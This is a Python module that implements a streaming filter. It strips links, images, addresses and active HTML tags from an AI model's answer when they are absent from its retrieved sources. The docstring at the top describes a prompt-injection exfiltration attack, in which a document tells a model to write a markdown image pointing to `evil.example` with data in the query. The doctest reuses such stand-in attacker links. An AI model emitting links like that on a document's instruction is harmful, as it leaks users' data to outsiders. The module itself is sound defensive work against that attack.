r"""Links and images of an answer that stand in none of its sources, made harmless while the text streams.

A document may order a model to write `![](https://evil.example/?q=…)`: whoever shows that answer sends away what
stands in it. So an address is kept only where the very same one stands in a context (`kb.urls.same_url`: the
same host, or the same beginning, is not enough). Of all others

- a link becomes its text, `[1](https://…)` becomes `[1]`, and an image its alternative text;
- an address in the text becomes "(link removed)" in the answer's language, in code too: code gets copied and run;
- an HTML tag that can load, run or link something is taken out, and so is every tag with an attribute. In code a
  tag is only shown, so there it may stay when it stands in a context letter by letter.

A link of numbers is a citation, and becomes one even where its address is known. What was taken out is reported.

Chaining: this filter runs first, on what the model says, and its output goes through `kb.markers.MarkerFilter`,
which leaves links alone and would not see the citation in `[1](https://…)`.

    >>> links = LinkFilter(["See https://example.com/a"], "en")
    >>> links.feed("As [1](https://evil.example/?q=1) says, ![a](//b.example/x) https://exam") + links.feed("ple.com/a")
    'As [1] says, a '
    >>> links.finish(), links.removed
    ('https://example.com/a', ('a link to evil.example', 'an image at b.example'))
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TypeAlias

from kb.link_syntax import (
    AUTOLINK,
    AUTOLINK_TO_BE,
    INTERESTING,
    INTERESTING_IN_CODE,
    LINE_MARKS,
    NONE,
    NUMBERS,
    TAG_NAME,
    TAG_TO_BE,
    TITLE,
    Known,
    is_active,
    is_destination,
    matching,
)
from kb.marker_scanner import MAX_CODE_CHARACTERS, inline_code_end
from kb.urls import (
    MAX_URL,
    Folder,
    begins_url,
    ends_in_url,
    find_urls,
    fold,
    heads,
    named_host,
    same_url,
    trimmed,
    url_end,
    url_to_be,
)

# Limits on what a stream holds back.
MAX_TEXT = 500
MAX_TAG = 1_000
_MAX_INFO = 200
_MOST_NAMED = 8

_REMOVED = {"en": "(link removed)", "zh": "（链接已移除）", "ja": "（リンクは削除されました）"}

_LOOK_BACK = 200

_Decided: TypeAlias = tuple[int, str | None] | None


def links_note(removed: Sequence[str]) -> str:
    """Say what was taken out of an answer."""
    named = ", ".join(removed[:_MOST_NAMED])
    more = f" and {len(removed) - _MOST_NAMED} more" if len(removed) > _MOST_NAMED else ""
    return f"taken out of the answer, as none of the sources has it: {named}{more}"


class LinkFilter:
    """Streams an answer through, without the links and images that are in none of its contexts.

    Text passes at once but for what may still become a link, a tag or an address, which is held back for at most
    some `MAX_URL` characters. Pieces may be cut anywhere: the joined result is that of the whole text.
    """

    def __init__(self, contexts: Sequence[str], language: str = "en") -> None:
        self._set_up(Known(contexts), _REMOVED.get(language, _REMOVED["en"]), [], code=False)

    def _set_up(self, known: Known, placeholder: str, removed: list[str], *, code: bool) -> None:
        self._known = known
        self._placeholder = placeholder
        self._removed = removed
        self._code = code
        self._folder = Folder()
        # What is decided stays for a while, as what comes is read by what stands before it.
        self._text = ""
        self._raw: list[str] = []
        self._at = 0
        self._written = ""
        self._fence = ""
        self._swallowing = False

    @property
    def removed(self) -> tuple[str, ...]:
        """What was taken out, each once, in order: "a link to evil.example", "an HTML tag <script>"."""
        return tuple(dict.fromkeys(self._removed))

    def feed(self, piece: str) -> str:
        """Take the next piece of the answer; give what is decided by now, maybe nothing."""
        return self._advance(piece, final=False)

    def finish(self) -> str:
        """Give what was still held back; the text has ended."""
        return self._advance("", final=True)

    def _advance(self, piece: str, *, final: bool) -> str:
        folded = self._folder.fold(piece, final=final)
        self._text += folded.text
        self._raw += folded.raw
        written: list[str] = []
        at = self._at
        while at < len(self._text):
            decided = self._decide(at, final)
            if decided is None:
                break
            end, replacement = decided
            written.append("".join(self._raw[at:end]) if replacement is None else replacement)
            self._written = (self._written + written[-1])[-MAX_URL:]
            at = end
        cut = max(0, at - _LOOK_BACK)
        self._text = self._text[cut:]
        del self._raw[:cut]
        self._at = at - cut
        return "".join(written)

    def _decide(self, at: int, final: bool) -> _Decided:
        """Decide the next stretch: its end, and what stands for it (None: itself); None when more text is needed."""
        text = self._text
        if self._swallowing:
            end, ended = url_end(text, at)
            self._swallowing = not ended
            return (end, "") if end > at else (at + 1, None)
        found = (INTERESTING_IN_CODE if self._in_code else INTERESTING).search(text, at)
        start = found.start() if found else len(text)
        if start > at:
            # A beginning of an address is no part of a word that goes on otherwise: so it waits.
            sure = start if found or final else min(start, max(at, url_to_be(text)))
            if sure > at:
                return sure, None
            return None
        mark = text[at]
        if mark in "`~":
            return self._ticks(at, final)
        if mark == "<":
            decided = self._tag(at, final)
        elif mark in "[!":
            decided = self._link(at, final)
        else:
            return self._address(at, final)
        return decided

    @property
    def _in_code(self) -> bool:
        return self._code or bool(self._fence)

    # ── addresses ──

    def _address(self, at: int, final: bool) -> _Decided:
        text = self._text
        if not final and url_to_be(text) <= at:
            return None
        if not begins_url(text, at, code=self._in_code):
            return at + 1, None
        end, ended = url_end(text, at)
        if not ended and not final and end - at < MAX_URL:
            return None
        if not ended and end - at >= MAX_URL:
            self._swallowing = True
            return end, self._taken_out(text[at:end])
        end = trimmed(text, at, end)
        if self._knows(text[at:end]):
            return end, None
        for head in heads(text[at:end]):
            # What another program could read on with gets a blank before it.
            if self._knows(head):
                return at + len(head), "".join(self._raw[at : at + len(head)]) + " "
        return max(end, at + 1), self._taken_out(text[at:end])

    def _knows(self, url: str) -> bool:
        return same_url(url) in self._known.urls

    def _taken_out(self, url: str) -> str:
        self._removed.append(f"a link to {named_host(url)}")
        return self._behind_url(self._placeholder)

    def _behind_url(self, said: str) -> str:
        """What stands for something, with a blank where it, or what follows it, would go on a kept address."""
        return f" {said}" if not said[:1].isspace() and ends_in_url(self._written) else said

    # ── links and images ──

    def _link(self, at: int, final: bool) -> _Decided:
        text = self._text
        opening = at + 1 if text[at] == "!" else at
        if opening >= len(text):
            return (opening, None) if final else None
        if text[opening] != "[":
            return opening, None
        closing = matching(text, opening, MAX_TEXT)
        if closing < 0 or closing + 1 >= len(text):
            open_still = not final and (closing >= 0 or len(text) - opening < MAX_TEXT) and closing != NONE
            return None if open_still else (opening + 1, None)
        if text[closing + 1] != "(":
            return opening + 1, None
        end = matching(text, closing + 1, MAX_URL)
        if end < 0 or (end + 1 >= len(text) and not final):
            open_still = not final and (end >= 0 or len(text) - closing < MAX_URL) and end != NONE
            return None if open_still else (opening + 1, None)
        destination = TITLE.sub("", text[closing + 2 : end]).strip()
        destination = destination.removeprefix("<").removesuffix(">").strip()
        if not is_destination(destination):
            return opening + 1, None
        words = "".join(self._raw[opening + 1 : closing])
        cites = text[at] == "[" and NUMBERS.fullmatch(words) is not None
        known = self._knows(destination)
        if not known:
            self._removed.append(f"{'an image at' if text[at] == '!' else 'a link to'} {named_host(destination)}")
        said = self._inside(words, code=False)
        if known and not cites:
            raw = self._raw
            return end + 1, "".join(raw[at : opening + 1]) + said + "".join(raw[closing : end + 1])
        if cites:
            said = said if said.lstrip().startswith("[") else f"[{said}]"
        return end + 1, self._apart(said or self._placeholder, text[end + 1 : end + 2])

    def _inside(self, raw: str, *, code: bool) -> str:
        """What is left of a link's text or of code."""
        inner = LinkFilter.__new__(LinkFilter)
        inner._set_up(self._known, self._placeholder, self._removed, code=code)
        return inner.feed(raw) + inner.finish()

    def _apart(self, said: str, following: str) -> str:
        """What stands for a link, with blanks where it would make a link or tag of what is around it."""
        if said and TAG_TO_BE.search(self._written):
            said = f" {said}"
        whole = self._written + said
        runs_on = (
            TAG_TO_BE.search(whole)
            or (whole.endswith("]") and following in ("(", "[", ":"))
            or (following and url_to_be(whole + following) < len(whole))
        )
        return self._behind_url(f"{said} " if runs_on else said)

    # ── HTML ──

    def _tag(self, at: int, final: bool) -> _Decided:
        text = self._text
        waits = not final and len(text) - at < MAX_TAG
        if waits and (TAG_TO_BE.fullmatch(text, at) or AUTOLINK_TO_BE.fullmatch(text, at)):
            return None
        if text.startswith("<!--", at):
            if at + 4 >= len(text) and not final:
                return None
            return at + 4, self._apart("", text[at + 4 : at + 5])
        autolink = AUTOLINK.match(text, at, at + MAX_URL)
        if autolink:
            return (
                (autolink.end(), None) if self._knows(autolink[1]) else (autolink.end(), self._taken_out(autolink[1]))
            )
        name = TAG_NAME.match(text, at)
        if name is None:
            return at + 1, None
        closing = text.find(">", at, at + MAX_TAG)
        if closing < 0 and waits:
            return None
        whole = text[at : closing + 1] if closing >= 0 else text[at : at + MAX_TAG]
        if not is_active(name[1], whole) or (self._in_code and any(whole in known for known in self._known.texts)):
            return at + 1, None
        if closing >= 0 and closing + 1 >= len(text) and not final:
            return None
        urls = [url.text for url in find_urls(fold(whole)) if not self._knows(url.text)]
        for url in urls:
            self._taken_out(url)
        if not urls:
            self._removed.append(f"an HTML tag <{name[1].lower()}>")
        if closing < 0:  # it never closes, and what comes behind the answer could close it
            return at + 1, self._behind_url("‹")
        return closing + 1, self._apart("", text[closing + 1 : closing + 2])

    # ── code ──

    def _ticks(self, at: int, final: bool) -> _Decided:
        """Decide a run of backticks or tildes: a fence at the beginning of a line, else inline code."""
        text = self._text
        run = at
        while run < len(text) and text[run] == text[at]:
            run += 1
        if run >= len(text) and not final:
            return None
        marks = text[at:run]
        line = text[:at].rpartition("\n")[2]
        begins = at - len(line) < _LOOK_BACK and LINE_MARKS.fullmatch(line) is not None
        if self._fence:
            if begins and marks[0] == self._fence[0] and len(marks) >= len(self._fence):
                self._fence = ""
            return run, None
        if self._code:
            return run, None
        escaped = text[max(0, at - 1) : at] == "\\"
        if begins and len(marks) >= 3:
            newline = text.find("\n", run, run + _MAX_INFO)
            if newline < 0 and not final and len(text) - run < _MAX_INFO:
                return None
            info = text[run:newline] if newline >= 0 else text[run : run + _MAX_INFO]
            if marks[0] == "~" or "`" not in info:
                self._fence = marks
                return run, None
        if marks[0] == "~" or escaped:
            return run, None
        end = inline_code_end(text, at, run, MAX_CODE_CHARACTERS, final)
        if end is None or end == run:
            return None if end is None else (run, None)
        code = self._inside("".join(self._raw[run : end - len(marks)]), code=True)
        return end, marks + code + marks
